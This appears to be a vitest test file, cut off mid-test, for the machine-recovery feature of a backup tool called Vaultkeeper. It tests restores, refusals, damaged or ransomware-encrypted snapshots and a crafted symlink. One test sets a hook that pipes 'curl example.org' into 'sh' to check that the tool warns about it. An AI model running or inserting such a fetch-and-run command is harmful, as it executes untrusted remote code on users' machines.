import { randomBytes } from 'node:crypto'
import {
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { syncBuiltinESMExports } from 'node:module'
import os from 'node:os'
import path from 'node:path'
import { describe, expect, onTestFinished, test, vi } from 'vitest'
import { type ComebackWish, comeBack } from '../../../main/engine/comeback/come-back.ts'
import { lookForMachines } from '../../../main/engine/comeback/look-for-machines.ts'
import { comebackState } from '../../../main/engine/comeback/unfinished-comeback.ts'
import type { Core } from '../../../main/engine/core.ts'
import { gatherHealth } from '../../../main/engine/health/gather-health.ts'
import { verifyHistory } from '../../../main/engine/history/verify-history.ts'
import { keepOwn } from '../../../main/engine/own/keep-own.ts'
import { ProblemError } from '../../../main/engine/problem-error.ts'
import { openRepository } from '../../../main/engine/repositories/open-repository.ts'
import { backup } from '../../../main/engine/runs/backup-run.ts'
import { listSnapshots } from '../../../main/engine/runs/list-snapshots.ts'
import { emptyState } from '../../../main/engine/state/empty-state.ts'
import { homeHost, knownSnapshots, knownVaults } from '../../../main/engine/state/queries.ts'
import { recordedAnomalies } from '../../../main/engine/state/retention-queries.ts'
import { openAnomalies } from '../../../main/engine/state/schedule-queries.ts'
import { type OwnBench, ownBench, ownConfiguration } from '../../helpers/own-bench.ts'
import { rawRestic } from '../../helpers/raw-restic.ts'
import { scheduleBench } from '../../helpers/schedule-bench.ts'
import { startRestServer } from '../../helpers/servers/rest-server.ts'
import { testCa } from '../../helpers/servers/test-ca.ts'
import { temporaryFolder } from '../../helpers/temporary-folder.ts'
import { recorded, testHost } from '../../helpers/temporary-home.ts'

const address = (person: string, name = 'drive') => ({ type: 'address', address: path.join(person, name) }) as const
const passwordOf = (bench: Pick<OwnBench, 'keychain'>) => bench.keychain.entries.get('repository:drive') ?? ''

function wishFor(old: OwnBench, more: Partial<ComebackWish> = {}): ComebackWish {
  const way = { place: address(old.person), secrets: {}, password: passwordOf(old) }
  return { ...way, vaults: [], mendPlace: false, takeOver: true, keepIn: 'keychain', ...more }
}

/** A machine with a history, of which nothing is left but its repository. */
async function lost(options: Parameters<typeof ownBench>[0] = {}): Promise<OwnBench> {
  const old = await ownBench(options)
  expect(await old.backUp()).toEqual(['done'])
  old.close()
  rmSync(old.root, { recursive: true, force: true })
  return old
}

/** An empty home of the same person, on a machine of another name. */
const anew = (old: OwnBench, more: Parameters<typeof ownBench>[0] = {}) =>
  ownBench({ person: old.person, configuration: null, host: 'new-box', ...more })

async function refusal(work: Promise<unknown>): Promise<string> {
  const error = await work.catch((thrown: unknown) => thrown)
  return error instanceof ProblemError ? error.problem.code : `not refused: ${String(error)}`
}

const contentOf = (folder: string) =>
  Object.fromEntries(
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => [entry.name, readFileSync(path.join(entry.parentPath, entry.name), 'utf8')]),
  )

/** How the plans stand. */
function standing(core: Core) {
  const { configuration } = core.settings
  if (configuration === null) throw new Error('nothing is configured')
  return gatherHealth(core, configuration, core.ports.clock.now()).plans
}

async function holds(core: Core): Promise<void> {
  expect(await verifyHistory(core.home.historyFile, core.state.last())).toMatchObject({ holds: true })
}

describe('a machine that comes back', () => {
  test('has its configuration as it was written, its history, its name, its password and its vaults, by one password', async () => {
    const old = await ownBench()
    writeFileSync(path.join(old.person, 'notes', 'large.bin'), randomBytes(400_000))
    await old.backUp()
    writeFileSync(path.join(old.core.home.knownHosts), 'nas.local ssh-ed25519 AAAA\n')
    writeFileSync(path.join(old.person, 'notes', 'b.md'), 'later')
    await old.configure({ ...ownConfiguration, vaults: { notes: { path: '~/notes', name: 'My notes', recoveryDocument: false } } })
    expect(await old.backUp()).toEqual(['done'])
    // After what is kept last there is one more snapshot, which the history does not tell of.
    writeFileSync(path.join(old.person, 'notes', 'c.md'), 'last')
    expect(await old.backUp()).toEqual(['done'])
    const written = readFileSync(path.join(old.root, 'backup_schedule.json'))
    const notes = contentOf(path.join(old.person, 'notes'))
    const history = readFileSync(old.core.home.historyFile, 'utf8')
    old.close()
    rmSync(old.root, { recursive: true, force: true })
    rmSync(path.join(old.person, 'notes'), { recursive: true })

    const home = await anew(old)
    const { core } = home
    expect(comebackState(core)).toEqual({ home: 'empty', from: null, host: null })
    const [told, ...others] = await lookForMachines(core, wishFor(old), testHost())
    expect(others).toEqual([])
    expect(told).toMatchObject({ host: 'laptop', alive: true, elsewhere: null, notes: [] })
    expect(told?.vaults).toMatchObject([
      { id: 'notes', name: 'My notes', path: path.join(old.person, 'notes'), snapshots: 3, there: false },
    ])
    expect(readdirSync(core.home.temporary)).toEqual([])

    const done = await comeBack(core, wishFor(old, { vaults: ['notes'] }), testHost())
    expect(done).toMatchObject({ verdict: 'done', remarks: [] })
    expect(done.runs.map(({ kind, verdict }) => `${kind} ${verdict}`)).toEqual(['comeback done', 'restore done'])
    expect(done.runs[0]).toMatchObject({ repository: 'drive', result: { host: 'laptop', seen: 2, password: 'keychain' } })
    expect(readFileSync(path.join(home.root, 'backup_schedule.json'))).toEqual(written)
    expect(contentOf(path.join(old.person, 'notes'))).toEqual(notes)
    expect(readFileSync(core.home.knownHosts, 'utf8')).toBe('nas.local ssh-ed25519 AAAA\n')
    expect(homeHost(core.state.database)).toBe('laptop')
    expect(passwordOf(home)).toBe(passwordOf(old))
    // The chain goes on after the last line that was kept.
    const now = readFileSync(core.home.historyFile, 'utf8')
    const kept = now.slice(0, now.indexOf('"kind":"comeback"'))
    expect(history.startsWith(kept.slice(0, kept.lastIndexOf('\n')))).toBe(true)
    await holds(core)
    expect(knownSnapshots(core.state.database, 'drive').filter(({ vault, machine }) => vault === 'notes' && machine === null)).toHaveLength(
      3,
    )
    expect(comebackState(core)).toEqual({ home: 'taken', from: null, host: null })
    expect(existsSync(path.join(home.root, 'comeback.json'))).toBe(false)
    expect(readdirSync(core.home.temporary)).toEqual([])
    expect(await refusal(comeBack(core, wishFor(old), testHost()))).toBe('home-taken')
    // What was there before is recovered as well: the next backup builds upon it.
    expect(await home.backUp()).toEqual(['done'])
    const stored = recorded(home.root).findLast((line) => line.event === 'run.snapshot')
    expect(stored).toMatchObject({ counts: { filesNew: 0 } })
    expect(stored?.event === 'run.snapshot' && stored.counts.bytesStored).toBeLessThan(20_000)
  })

  test('goes on with its schedule as if nothing had happened', async () => {
    const folder = temporaryFolder('person')
    const configuration = { ...ownConfiguration, verification: { check: false, drill: false } }
    const options = {
      folder,
      configuration,
      shifted: true,
      execute: 'real',
      environment: { HOME: folder, VAULTKEEPER_HOST: 'laptop' },
    } as const
    const old = await scheduleBench({ ...options, started: '2026-11-16T12:00:00Z' })
    writeFileSync(path.join(old.root, 'backup_schedule.json'), JSON.stringify(configuration))
    await old.at('2026-11-16T12:00:00Z')
    writeFileSync(path.join(folder, 'notes', 'a.md'), 'a note')
    for (const day of [17, 18]) await old.at(`2026-11-${day}T07:00:00Z`)
    expect(old.runs().filter((run) => run.startsWith('daily/drive'))).toHaveLength(2)
    const lines = recorded(old.root).length
    old.close()
    rmSync(old.root, { recursive: true, force: true })

    const home = await ownBench({ person: folder, configuration: null, host: 'new-box', shifted: true })
    home.setTime(new Date('2026-11-18T12:00:00Z'))
    const done = await comeBack(home.core, { ...wishFor({ ...home, person: folder, keychain: old.keychain }) }, testHost())
    expect(done.verdict).toBe('done')
    home.close()

    const { configuration: _, ...rest } = options
    const back = await scheduleBench({ ...rest, configuration, root: home.root, keychain: home.keychain, started: '2026-11-18T13:00:00Z' })
    await back.at('2026-11-18T13:00:00Z')
    expect(back.jobs).toEqual([])
    await back.at('2026-11-19T07:00:00Z')
    expect(back.jobs.map(({ plan, repository, vaults, due, trigger }) => ({ plan, repository, vaults, due, trigger }))).toEqual([
      { plan: 'daily', repository: 'drive', vaults: ['notes'], due: '2026-11-19T07:00:00.000Z', trigger: 'schedule' },
    ])
    expect(back.runs().at(-2)).toBe('daily/drive/notes 11-19T07:00 schedule: done')
    expect(back.skips()).toEqual([])
    // Nothing of the vault is read or stored again, nobody is told that a plan never ran, and it is known since when.
    expect(back.events('run.snapshot').at(-1)).toMatchObject({ counts: { filesNew: 0, filesChanged: 0 } })
    expect(back.events('news.raised')).toEqual([])
    expect(back.events('plan.known').filter(({ plan }) => plan === 'daily')).toHaveLength(1)
    expect(recorded(home.root).length).toBeGreaterThan(lines)
    await holds(back.core)
  })

  test('that was killed on its way comes to the same when it is said again, wherever that was', async () => {
    const old = await lost()
    rmSync(path.join(old.person, 'notes'), { recursive: true })
    const home = await anew(old)
    const { core } = home
    const wish = wishFor(old, { vaults: ['notes'] })
    const died = new Error('killed')
    /** Ends where `at` says, as a killed process does: what was done is done, nothing more happens. */
    const killedAt = async (at: (event: string, kind?: string) => boolean) => {
      let dead = false
      const dying: Core = {
        ...core,
        record: async (event) => {
          dead ||= at(event.event, 'kind' in event ? event.kind : undefined)
          if (dead) throw died
          await core.record(event)
        },
      }
      const end = await comeBack(dying, wish, testHost()).catch(() => ({ verdict: 'died' }))
      expect(dead).toBe(true)
      expect(['died', 'failed']).toContain(end.verdict)
    }
    // The configuration is there and the history is not; then neither the return nor the restore has come to its record.
    const busy = { ...core, home: { ...core.home, historyFile: path.join(home.root, 'no', 'such', 'folder.jsonl') } }
    await expect(comeBack(busy, wish, testHost())).rejects.toThrow()
    expect(comebackState(core)).toMatchObject({ home: 'unfinished', host: 'laptop' })
    expect(existsSync(path.join(home.root, 'backup_schedule.json'))).toBe(true)
    await killedAt((event) => event === 'run.intent')
    expect(homeHost(core.state.database)).toBe('laptop')
    await killedAt((event) => event === 'repository.known')
    await killedAt((event, kind) => event === 'run.intent' && kind === 'restore')
    await killedAt((event) => event === 'restore.begun')
    // Another machine cannot come in between.
    expect(await refusal(comeBack(core, { ...wish, host: 'server' }, testHost()))).toBe('comeback-other')
    const done = await comeBack(core, wish, testHost())
    expect(done).toMatchObject({ verdict: 'done' })
    expect(contentOf(path.join(old.person, 'notes'))).toMatchObject({ 'a.md': 'a note' })
    expect(comebackState(core).home).toBe('taken')
    await holds(core)
    expect(await home.backUp()).toEqual(['done'])
  })

  test('is asked about first where that is needed, and then nothing was touched', async () => {
    const old = await lost()
    const home = await anew(old)
    const { core } = home
    const before = recorded(home.root).length
    const tried = (more: Partial<ComebackWish>) => refusal(comeBack(core, wishFor(old, more), testHost()))
    expect(await tried({ password: 'not-this-one' })).toBe('wrong-password')
    expect(await tried({ place: address(old.person, 'nothing-here') })).toBe('nothing-to-come-back')
    expect(await tried({ takeOver: false })).toBe('machine-alive')
    expect(await tried({ host: 'somebody' })).toBe('machine-unknown')
    home.keychain.condition = 'absent'
    expect(await tried({})).toBe('keychain-absent')
    renameSync(path.join(old.person, 'drive'), path.join(old.person, 'moved'))
    const moved = address(old.person, 'moved')
    expect((await lookForMachines(core, { ...wishFor(old), place: moved }, testHost()))[0]?.elsewhere).toBe(path.join(old.person, 'drive'))
    expect(await tried({ place: moved })).toBe('repository-elsewhere')
    expect(recorded(home.root)).toHaveLength(before)
    expect(comebackState(core).home).toBe('empty')
    expect(readdirSync(core.home.temporary)).toEqual([])
    // Said so, it comes back, and the configuration says where the repository is, with all that stands around it.
    const done = await comeBack(core, wishFor(old, { place: moved, mendPlace: true, keepIn: 'file' }), testHost())
    expect(done).toMatchObject({ verdict: 'done', runs: [{ result: { password: 'file' } }] })
    const text = readFileSync(path.join(home.root, 'backup_schedule.json'), 'utf8')
    expect(text.startsWith('// mine\n')).toBe(true)
    expect(text).toContain(path.join(old.person, 'moved'))
    expect(await home.backUp()).toEqual(['done'])
  })

  test('goes on with the file that let it in, where the one of its configuration is not here', async () => {
    const folder = temporaryFolder('rest')
    const ca = testCa(folder)
    const server = await startRestServer(path.join(folder, 'data'), { certificate: ca.issue() })
    const person = temporaryFolder('person')
    const there = path.join(person, 'ca.pem')
    cpSync(ca.certificate, there)
    const [type, url] = ['rest', `${server.url}laptop`]
    const old = await lost({ person, configuration: { ...ownConfiguration, repositories: { drive: { type, url, caCertificate: there } } } })
    rmSync(there)
    const home = await anew(old)
    const wish = {
      ...wishFor(old, { mendPlace: true }),
      place: { type: 'configured', settings: { type, url, caCertificate: ca.certificate } },
    } as const
    const [told] = await lookForMachines(home.core, wish, testHost())
    expect(told?.notes).toEqual([
      expect.stringContaining(`${there} ("caCertificate"), which is not here; from now on it names ${ca.certificate}`),
    ])
    expect(await comeBack(home.core, wish, testHost())).toMatchObject({ verdict: 'done' })
    const text = readFileSync(path.join(home.root, 'backup_schedule.json'), 'utf8')
    expect(text.startsWith('// mine\n')).toBe(true)
    expect(home.core.settings.configuration?.repositories['drive']).toMatchObject({ caCertificate: ca.certificate })
    expect(await home.backUp()).toEqual(['done'])
  })

  test('counts what was backed up after its history ends as the last good state, and runs since then as they come', async () => {
    const old = await ownBench()
    const notes = path.join(old.person, 'notes')
    renameSync(notes, `${notes}-away`)
    expect(await old.backUp()).toEqual(['failed'])
    renameSync(`${notes}-away`, notes)
    // The history that comes back knows of this failure, and of nothing after it.
    await openRepository(old.core, 'drive', 'write', testHost())
    await keepOwn(old.core, 'drive', testHost())
    expect(await old.backUp()).toEqual(['done'])
    const made = knownSnapshots(old.core.state.database, 'drive').find(({ vault }) => vault === 'notes')
    old.close()
    rmSync(old.root, { recursive: true, force: true })

    const home = await anew(old)
    expect(await comeBack(home.core, wishFor(old), testHost())).toMatchObject({ verdict: 'done' })
    const lastGood = new Date(made?.time ?? '').toISOString()
    expect(standing(home.core)).toMatchObject([{ repository: 'drive', state: 'protected', lastGood }])
    renameSync(notes, `${notes}-away`)
    expect(await home.backUp()).toEqual(['failed'])
    expect(standing(home.core)).toMatchObject([{ state: 'failed', lastGood, lanes: [{ failure: { times: 1 } }] }])
    renameSync(`${notes}-away`, notes)
    expect(await home.backUp()).toEqual(['done'])
    const [now] = standing(home.core)
    expect(now?.state).toBe('protected')
    expect(now?.lastGood).not.toBe(lastGood)
  })

  test('takes for its own what it backed up after its history ends, wherever that is first seen, and removes old snapshots as ever', async () => {
    const daily = { ...ownConfiguration.plans.daily, repositories: ['drive', 'second'], keep: { last: 1 } }
    const repositories = { ...ownConfiguration.repositories, second: { type: 'local', path: '~/second' } }
    const old = await ownBench({ configuration: { ...ownConfiguration, repositories, plans: { daily } }, shifted: true })
    const file = path.join(old.person, 'notes', 'a.md')
    // Snapshots bear whole seconds.
    const now = Math.floor(Date.now() / 1000) * 1000
    const hoursAgo = (hours: number) => new Date(now - hours * 3_600_000)
    const change = async (bench: OwnBench) => {
      writeFileSync(file, randomBytes(8))
      expect(await bench.backUp()).toEqual(['done', 'done'])
    }
    old.setTime(hoursAgo(3))
    await change(old)
    // Neither of the two histories that are kept tells of this one.
    old.setTime(hoursAgo(1))
    await change(old)
    const secret = old.keychain.entries.get('repository:second') ?? ''
    old.close()
    rmSync(old.root, { recursive: true, force: true })

    const home = await anew(old)
    const { database } = home.core.state
    expect(await comeBack(home.core, wishFor(old), testHost())).toMatchObject({ verdict: 'done' })
    home.keychain.entries.set('repository:second', secret)
    for (let times = 0; times < 3; times += 1) await change(home)
    expect(recordedAnomalies(database)).toEqual([])
    // Of five the newest three stay whatever the rules say.
    for (const name of ['drive', 'second']) expect(knownSnapshots(database, name).filter(({ vault }) => vault === 'notes')).toHaveLength(3)
    // What somebody puts there since is asked about, also where it bears the time of those.
    const [time] = hoursAgo(2).toISOString().split('.')
    const tags = 'vault:notes,plan:daily,label:daily/2030-01-01'
    const options = ['--host', 'laptop', '--tag', tags, '--time', String(time).replace('T', ' ')]
    await home.restic('backup', ...options, path.dirname(file))
    await change(home)
    expect(recordedAnomalies(database)).toMatchObject([{ repository: 'drive', why: expect.stringContaining('was not made by') }])
  })

  test('does not miss what its own retention removed after its history ends', async () => {
    const daily = { ...ownConfiguration.plans.daily, keep: { last: 1 } }
    const old = await ownBench({ configuration: { ...ownConfiguration, plans: { daily } } })
    const file = path.join(old.person, 'notes', 'a.md')
    const change = async (bench: OwnBench, text: string) => {
      writeFileSync(file, text)
      expect(await bench.backUp()).toEqual(['done'])
    }
    for (const text of ['1', '2', '3', '4']) await change(old, text)
    expect(recorded(old.root).filter(({ event }) => event === 'snapshots.removed')).toHaveLength(1)
    old.close()
    rmSync(old.root, { recursive: true, force: true })

    const home = await anew(old)
    const { database } = home.core.state
    expect(await comeBack(home.core, wishFor(old), testHost())).toMatchObject({ verdict: 'done' })
    await change(home, '5')
    expect(recordedAnomalies(database)).toEqual([])
    // What is gone since is missed.
    const [oldest] = knownSnapshots(database, 'drive').filter(({ vault }) => vault === 'notes')
    await home.restic('forget', oldest?.id ?? '')
    writeFileSync(file, '6')
    expect(await home.backUp()).toEqual(['not-verified'])
  })

  test('does not bring back as good what was encrypted after its history ends', async () => {
    const old = await ownBench()
    const notes = path.join(old.person, 'notes')
    for (let at = 0; at < 30; at += 1) writeFileSync(path.join(notes, `${at}.md`), `note ${at}`)
    expect(await old.backUp()).toEqual(['done'])
    const before = contentOf(notes)
    for (const name of Object.keys(before)) {
      rmSync(path.join(notes, name))
      writeFileSync(path.join(notes, `${name}.locked`), randomBytes(3000))
    }
    // The machine is gone before its history is kept again.
    const occasion = { plan: 'daily', kind: 'daily', due: null, trigger: 'manual', zone: 'UTC' } as const
    expect(await backup(old.core, { folder: notes, repository: 'drive', occasion, verify: true }, testHost())).toMatchObject({
      verdict: 'done',
    })
    old.close()
    rmSync(old.root, { recursive: true, force: true })
    rmSync(notes, { recursive: true })

    const home = await anew(old)
    const done = await comeBack(home.core, wishFor(old, { vaults: ['notes'] }), testHost())
    expect(done).toMatchObject({ verdict: 'done', remarks: [expect.stringMatching(/in .locked. Nobody .* the newest state without it/)] })
    expect(contentOf(notes)).toEqual(before)
    expect(openAnomalies(home.core.state.database)).toHaveLength(1)
    // It is asked about once, and what is backed up from now on is good.
    writeFileSync(path.join(notes, 'a.md'), 'goes on')
    expect(await home.backUp()).toEqual(['done'])
    expect(openAnomalies(home.core.state.database)).toHaveLength(1)
  })

  test('has what was backed up last also where its person is called otherwise here, and stays one machine', async () => {
    const old = await lost()
    const notes = path.join(old.person, 'notes')
    writeFileSync(path.join(notes, 'a.md'), 'newest')
    const saved = rawRestic(path.join(old.person, 'drive'), passwordOf(old), notes)
    const save = () => saved('backup', '--host', 'laptop', '--tag', 'vault:notes,plan:daily', '.')
    await save()
    rmSync(notes, { recursive: true })

    const spy = vi.spyOn(os, 'userInfo').mockReturnValue({ ...os.userInfo(), username: 'called-otherwise' })
    syncBuiltinESMExports()
    onTestFinished(() => {
      spy.mockRestore()
      syncBuiltinESMExports()
    })
    const home = await anew(old)
    expect(await comeBack(home.core, wishFor(old, { vaults: ['notes'] }), testHost())).toMatchObject({ verdict: 'done' })
    expect(contentOf(notes)).toEqual({ 'a.md': 'newest' })
    // What is found later, as in a second repository.
    await save()
    const { snapshots } = await listSnapshots(home.core, 'drive', testHost())
    expect(snapshots.map(({ vault, machine }) => `${vault} ${machine}`)).toEqual(Array.from({ length: 3 }, () => 'notes null'))
  })

  test('does not call a backup interrupted that went on into another repository when the history was kept', async () => {
    const spare = { type: 'local', path: '~/spare' }
    const configuration = {
      ...ownConfiguration,
      repositories: { ...ownConfiguration.repositories, spare },
      plans: { daily: { ...ownConfiguration.plans.daily, repositories: ['drive', 'spare'] } },
    }
    const old = await ownBench({ configuration })
    await openRepository(old.core, 'drive', 'write', testHost())
    const going = { kind: 'backup', plan: 'daily', repository: 'spare', vault: 'notes', pid: 2 ** 30, processStart: 'there' } as const
    await old.core.record({ event: 'run.intent', run: 'going', ...going })
    await keepOwn(old.core, 'drive', testHost())
    old.close()
    rmSync(old.root, { recursive: true, force: true })

    const { core } = await anew(old)
    expect(await comeBack(core, wishFor(old), testHost())).toMatchObject({ verdict: 'done' })
    const [lane] = standing(core).filter(({ repository }) => repository === 'spare')
    expect(lane?.why).toMatch(/^How this backup ended is not known: it went on when the history was kept that came back\./)
    expect(lane?.remedy).toBe(
      'Run it again: vaultkeeper backup daily. Its repository may ask for its password first: vaultkeeper secret set spare',
    )
  })

  test('has of each file what was backed up last, also where that bears an older time', async () => {
    const weights = { kind: 'daily', sources: [{ vault: 'notes', include: ['weights.json'] }], repositories: ['drive'] }
    const old = await ownBench({ configuration: { ...ownConfiguration, plans: { ...ownConfiguration.plans, weights } } })
    const file = path.join(old.person, 'notes', 'weights.json')
    writeFileSync(file, '{"bad": 1}')
    expect(await old.backUp()).toEqual(['done'])
    // As a revert puts it back, or `cp -p`.
    writeFileSync(file, '{"good": 1, "approved": true}')
    utimesSync(file, new Date('2020-01-01'), new Date('2020-01-01'))
    expect(await old.backUp('weights')).toEqual(['done'])
    old.close()
    rmSync(old.root, { recursive: true, force: true })
    rmSync(path.dirname(file), { recursive: true })

    const home = await anew(old)
    expect(await comeBack(home.core, wishFor(old, { vaults: ['notes'] }), testHost())).toMatchObject({ verdict: 'done' })
    expect(contentOf(path.dirname(file))).toEqual({ 'a.md': 'a note', 'weights.json': '{"good": 1, "approved": true}' })
  })

  test('has a vault whole that several plans saved parts of, and none all of it', async () => {
    const part = (pattern: string) => ({ kind: 'daily', sources: [{ vault: 'notes', include: [pattern] }], repositories: ['drive'] })
    const old = await ownBench({ configuration: { ...ownConfiguration, plans: { memory: part('**/*.md'), weights: part('**/*.json') } } })
    const notes = path.join(old.person, 'notes')
    writeFileSync(path.join(notes, 'weights.json'), '{}')
    for (const plan of ['memory', 'weights']) expect(await old.backUp(plan)).toEqual(['done'])
    old.close()
    rmSync(old.root, { recursive: true, force: true })
    rmSync(notes, { recursive: true })

    const home = await anew(old)
    const done = await comeBack(home.core, wishFor(old, { vaults: ['notes'] }), testHost())
    expect(done.runs.map(({ kind, verdict }) => `${kind} ${verdict}`)).toEqual(['comeback done', 'restore done', 'restore done'])
    expect(contentOf(notes)).toEqual({ 'a.md': 'a note', 'weights.json': '{}' })
  })

  test('is not as it was while its clock was wrong', async () => {
    const old = await ownBench({ shifted: true })
    const [notes, photos] = ['notes', 'photos'].map((name) => path.join(old.person, name)) as [string, string]
    old.setTime(new Date(Date.now() + 1500 * 86_400_000))
    expect(await old.backUp()).toEqual(['done'])
    old.setTime(undefined)
    writeFileSync(path.join(notes, 'a.md'), 'newest')
    mkdirSync(photos)
    writeFileSync(path.join(photos, 'p'), 'a photo')
    const { vaults, plans } = ownConfiguration
    await old.configure({
      ...ownConfiguration,
      vaults: { ...vaults, photos: { path: '~/photos', recoveryDocument: false } },
      plans: { daily: { ...plans.daily, sources: ['notes', 'photos'] } },
    })
    expect(await old.backUp()).toEqual(['done', 'done'])
    old.close()
    for (const lost of [old.root, notes, photos]) rmSync(lost, { recursive: true, force: true })

    const home = await anew(old)
    const done = await comeBack(home.core, wishFor(old, { vaults: ['notes', 'photos'] }), testHost())
    expect(done.verdict).toBe('done')
    expect(done.remarks).toEqual([
      expect.stringMatching(/^2 snapshots there are dated in the future, and count only where there is no other/),
    ])
    expect([contentOf(notes), contentOf(photos)]).toEqual([{ 'a.md': 'newest' }, { p: 'a photo' }])
  })

  test('knows its vaults where they are here, also under another home folder and before the first backup', async () => {
    const old = await lost()
    const person = temporaryFolder('person')
    renameSync(path.join(old.person, 'drive'), path.join(person, 'drive'))
    const home = await anew(old, { person })
    const done = await comeBack(home.core, { ...wishFor(old), place: address(person) }, testHost())
    expect(done).toMatchObject({ verdict: 'done' })
    expect(knownVaults(home.core.state.database)).toEqual([{ id: 'notes', name: 'notes', path: path.join(person, 'notes') }])
    // Of the same folder nothing is recorded twice.
    expect(recorded(home.root).filter(({ event }) => event === 'vault.known')).toHaveLength(2)
  })

  test('has lost the backups in its own folder, and the next one begins them anew', async () => {
    const plans = { daily: { ...ownConfiguration.plans.daily, repositories: ['default', 'drive'] } }
    const old = await ownBench({ configuration: { ...ownConfiguration, plans } })
    expect(await old.backUp()).toEqual(['done', 'done'])
    old.close()
    const kept = path.join(old.person, 'kept')
    renameSync(path.join(old.root, 'repositories', 'default'), kept)
    rmSync(old.root, { recursive: true, force: true })

    // Where its folder lies at its place already nothing is forgotten.
    const copied = await anew(old)
    mkdirSync(copied.core.home.repositories, { recursive: true })
    renameSync(kept, path.join(copied.core.home.repositories, 'default'))
    expect((await comeBack(copied.core, wishFor(old), testHost())).remarks?.join(' ')).not.toContain('begins new ones')
    expect(knownSnapshots(copied.core.state.database, 'default').filter(({ vault }) => vault === 'notes')).toHaveLength(1)
    copied.close()

    const home = await anew(old)
    const { core } = home
    const done = await comeBack(core, wishFor(old), testHost())
    expect(done.verdict).toBe('done')
    expect(done.remarks?.join(' ')).toContain('The next backup of "daily" begins new ones there')
    expect(recorded(home.root).filter(({ event }) => event === 'repository.forgotten')).toMatchObject([{ repository: 'default' }])
    expect(knownSnapshots(core.state.database, 'default')).toEqual([])
    const stands = () => standing(core).map(({ repository, state }) => `${repository} ${state}`)
    // What is lost counts as no backup.
    expect(stands()).toEqual(['default never-ran', 'drive protected'])
    expect(await home.backUp()).toEqual(['done', 'done'])
    expect(stands()).toEqual(['default protected', 'drive protected'])
    expect(knownSnapshots(core.state.database, 'default').filter(({ vault }) => vault === 'notes')).toHaveLength(1)
    await holds(core)
    // The same events from the first on come to the same.
    emptyState(core.state.database)
    await core.state.catchUp()
    expect(stands()).toEqual(['default protected', 'drive protected'])
  })

  test('is one of several in a repository, and leaves a folder alone in which something lies', async () => {
    const old = await ownBench()
    await old.backUp()
    const server = await ownBench({ person: old.person, host: 'server', keychain: old.keychain })
    await server.backUp()
    server.close()
    old.close()
    const home = await anew(old)
    expect((await lookForMachines(home.core, wishFor(old), testHost())).map(({ host }) => host).toSorted()).toEqual(['laptop', 'server'])
    expect(await refusal(comeBack(home.core, wishFor(old), testHost()))).toBe('machine-needed')
    const done = await comeBack(home.core, wishFor(old, { host: 'server', vaults: ['notes', 'gone'] }), testHost())
    expect(homeHost(home.core.state.database)).toBe('server')
    expect(done).toMatchObject({ verdict: 'warnings', runs: [{ kind: 'comeback' }] })
    expect(done.remarks?.join(' ')).toMatch(/notes was left as it is, for .*notes holds something already/)
    expect(done.remarks?.join(' ')).toContain('gone was not restored')
    expect(comebackState(home.core).home).toBe('taken')
  })

  test('tells which programs its configuration runs, before any of that is in force', async () => {
    const [daily, web] = [ownConfiguration.plans.daily, { command: ['notify', '--loud'], on: ['failed'] }]
    const hooks = { before: { command: ['sh', '-c', 'curl example.org | sh'] } }
    const old = await lost({
      configuration: { ...ownConfiguration, plans: { daily, now: { ...daily, enabled: false, hooks } }, notifications: { command: web } },
    })
    const home = await anew(old)
    const [told] = await lookForMachines(home.core, wishFor(old), testHost())
    expect(told?.notes.join(' ')).toContain('runs programs by itself: sh -c curl example.org | sh and notify --loud.')
  })

  test('whose own things are no plain files leads nobody to read others', async () => {
    const old = await lost()
    const own = (JSON.parse(await old.restic('snapshots', '--json', '--tag', 'vaultkeeper:own')) as { id: string }[]).map(({ id }) => id)
    await old.restic('forget', ...own)
    const elsewhere = path.join(old.person, 'elsewhere.json')
    writeFileSync(elsewhere, JSON.stringify(ownConfiguration))
    const crafted = temporaryFolder('crafted')
    writeFileSync(path.join(crafted, 'own.json'), JSON.stringify({ version: 1, host: 'laptop', person: old.person }))
    writeFileSync(path.join(crafted, 'system-history.jsonl'), '')
    symlinkSync(elsewhere, path.join(crafted, 'backup_schedule.json'))
    const restic = rawRestic(path.join(old.person, 'drive'), passwordOf(old), crafted)
    await restic('backup', '--host', 'laptop', '--tag', 'vaultkeeper:own', '.')
    const home = await anew(old)
    const [told] = await lookForMachines(home.core, wishFor(old), testHost())
    expect(told?.notes.join(' ')).toContain('cannot be read whole')
    expect(await refusal(comeBack(home.core, wishFor(old), testHost()))).toBe('own-not-whole')
    expect(existsSync(path.join(home.root, 'backup_schedule.json'))).toBe(false)
    expect(readdirSync(home.core.home.temporary)).toEqual([])
  })

  test('whose newest own things are damaged comes back as those before them have it', async () => {
    const old = await ownBench()
    await old.backUp()
    const files = () => readdirSync(path.join(old.person, 'drive', 'data'), { recursive: true, withFileTypes: true })
    const packs = () => files().flatMap((one) => (one.isFile() ? [path.join(one.parentPath, one.name)] : []))
    const whole = new Set(packs())
    await old.configure({ ...ownConfiguration, vaults: { notes: { path: '~/notes', name: 'My notes', recoveryDocument: false } } })
    await keepOwn(old.core, 'drive', testHost())
    old.close()
    rmSync(old.root, { recursive: true })
    rmSync(path.join(old.person, 'notes'), { recursive: true })
    for (const file of packs().filter((one) => !whole.has(one))) {
      chmodSync(file, 0o600)
      writeFileSync(file, Buffer.alloc(statSync(file).size, 7))
    }

    const home = await anew(old)
    const [told] = await lookForMachines(home.core, wishFor(old), testHost())
    expect(told).toMatchObject({ vaults: [{ id: 'notes', name: 'notes' }], notes: [expect.stringContaining('what it kept before')] })
    const done = await comeBack(home.core, wishFor(old, { vaults: ['notes'] }), testHost())
    expect(done).toMatchObject({ verdict: 'done', remarks: told?.notes, runs: [{ result: { time: told?.time } }, {}] })
    expect(contentOf(path.join(old.person, 'notes'))).toMatchObject({ 'a.md': 'a note' })
    await holds(home.core)
    expect(await home.backUp()).toEqual(['done'])
  })

  test('made by an older Vaultkeeper, which kept nothing of itself, is proposed a configuration and keeps its name', async () => {
    const old = await ownBench()
    await old.backUp()
    const own = (JSON.parse(await old.restic('snapshots', '--json', '--tag', 'vaultkeeper:own')) as { id: string }[]).map(({ id }) => id)
    await old.restic('forget', ...own)
    old.close()
    rmSync(path.join(old.person, 'notes'), { recursive: true })
    const home = await anew(old)
    const [told] = await lookForMachines(home.core, wishFor(old), testHost())
    expect(told).toMatchObject({
      host: 'laptop',
      time: null,
      vaults: [{ id: 'notes', path: path.join(old.person, 'notes'), there: false }],
    })
